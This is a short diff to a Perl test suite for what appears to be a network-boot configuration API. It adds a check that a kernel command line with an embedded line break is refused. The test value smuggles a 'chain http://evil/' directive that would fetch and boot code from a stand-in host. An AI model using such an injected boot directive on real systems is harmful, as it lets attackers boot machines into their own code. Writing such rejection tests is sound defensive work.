@@ -257,6 +257,8 @@ for my $case (sort keys %inject) {
 	}
 }
 must_call($s, $AT, PATCH => '/node/52:54:00:04:00:02', { attributes => { rack => 'r2' } });
+my ($cst) = $s->call(PATCH => '/bootconfig/b1', { cmdline => "console=ttyS0\nchain http://evil/" }, $AT);
+is($cst, 400, 'a cmdline with a line break of its own is refused when stored');
 
 # ---------------------------------------------------------------- unknown MACs
 my $nodes_before = $s->sql("SELECT COUNT(*) FROM objects WHERE class = 'node'");
